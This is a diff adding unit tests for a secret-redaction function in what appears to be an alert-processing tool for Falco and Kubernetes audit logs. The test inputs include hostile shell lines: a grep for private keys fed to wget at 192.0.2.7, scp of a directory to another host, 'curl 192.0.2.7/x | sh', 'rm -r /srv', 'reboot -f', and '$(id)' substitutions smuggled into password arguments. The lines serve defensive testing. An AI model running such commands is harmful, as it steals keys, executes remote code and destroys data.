@@ -105,6 +105,71 @@ TEST(RedactText, LeavesTheRest) {
     EXPECT_EQ(redact_text(text), text);
 }
 
+TEST(RedactText, AKeysHeaderThatSomebodySearchesForIsNoKey) {
+  for (const auto* text :
+       {"grep -rl -----BEGIN OPENSSH PRIVATE KEY----- /home/bob ; wget -i - http://192.0.2.7/",
+        "grep -rl '-----BEGIN RSA PRIVATE KEY-----' srv; scp -r srv h:",
+        "grep -e -----BEGIN PRIVATE KEY----- -e -----END PRIVATE KEY----- /etc",
+        "awk /-----BEGIN EC PRIVATE KEY-----/,/-----END EC PRIVATE KEY-----/ k",
+        "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n; reboot -f"})
+    EXPECT_EQ(redact_text(text), text);
+}
+
+TEST(RedactText, AKeyIsHiddenHoweverItsLinesWereKept) {
+  const std::string line(64, 'k');
+  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----";
+  const std::string end = "-----END RSA PRIVATE KEY-----";
+  for (const std::string gap : {"\n", "\r\n", "\\n", "\\\\n", " ", "."}) {
+    const std::string whole = begin + gap + line + gap + line + gap + "kk/k==" + gap + end;
+    EXPECT_EQ(redact_text("a " + whole + " z"), "a <redacted> z");
+    EXPECT_EQ(redact_text("a " + begin + gap + line + gap + line), "a <redacted>");
+    EXPECT_EQ(redact_text("a " + begin + gap + "Proc-Type: 4,ENCRYPTED" + gap +
+                          "DEK-Info: AES-128-CBC,0123ABCD" + gap + gap + line + gap + end + " z"),
+              "a <redacted> z");
+  }
+  EXPECT_EQ(redact_text(begin + line + "kkk" + end), "<redacted>");  // Falco drops line ends
+  EXPECT_EQ(redact_text("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: Gnu 2\n\n" + line +
+                        "\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----"),
+            "<redacted>");
+  EXPECT_EQ(redact_text(begin + "\nMIIEpAIB"), "<redacted>");
+}
+
+TEST(RedactText, NobodyHidesACommandBetweenBeginAndEnd) {
+  const std::string text =
+      "-----BEGIN PRIVATE KEY-----; curl 192.0.2.7/x | sh; -----END PRIVATE KEY-----";
+  EXPECT_EQ(redact_text(text), text);
+}
+
+TEST(RedactText, WhatAShellWouldRunIsNoSecret) {
+  for (const std::string run : {"$(id)", "`id`"}) {
+    for (const std::string form :
+         {"sh -c token=@@", "sh -c token=\"a @@\"", "sh -c secret='@@'", "app --password @@",
+          "app --password \"@@ b\"", "mysql -u a -p@@", "sshpass -p @@ ssh h", "curl -u eve:@@ h",
+          "redis-cli -a @@", "smbclient -U eve%@@ //h", "git clone https://eve:@@@h/a",
+          "echo root:@@ | chpasswd", R"(sh -c {\"token\":\"@@\"})"}) {
+      std::string text = form;
+      text.replace(text.find("@@"), 2, run);
+      EXPECT_EQ(redact_text(text), text);
+    }
+  }
+  EXPECT_NE(redact_text("token=$(curl h|sh)"), redact_text("token=$(rm -r /srv)"));
+  EXPECT_EQ(redact_text("token=abc$(id)"), "token=<redacted>$(id)");
+  EXPECT_EQ(redact_text("token=$TOKEN secret=${X} pass='a`b' pass=\"$$x$\""),
+            "token=<redacted> secret=<redacted> pass=<redacted> pass=<redacted>");
+}
+
+TEST(Redact, TheNameOfASecretIsNoSecret) {
+  Alert alert;
+  alert.source = "k8s_audit";
+  alert.output = "Secret read (user=eve secret=db-password ns=prod token=x)";
+  alert.fields = {{"ka.target.name", "db-password"}};
+  redact(alert);
+  EXPECT_EQ(alert.output, "Secret read (user=eve secret=db-password ns=prod token=<redacted>");
+  alert.source = "syscall";
+  redact(alert);
+  EXPECT_EQ(alert.output, "Secret read (user=eve secret=<redacted> ns=prod token=<redacted>");
+}
+
 TEST(Redact, OnlyWhereSecretsMayStand) {
   Alert alert;
   alert.rule = "password=x";
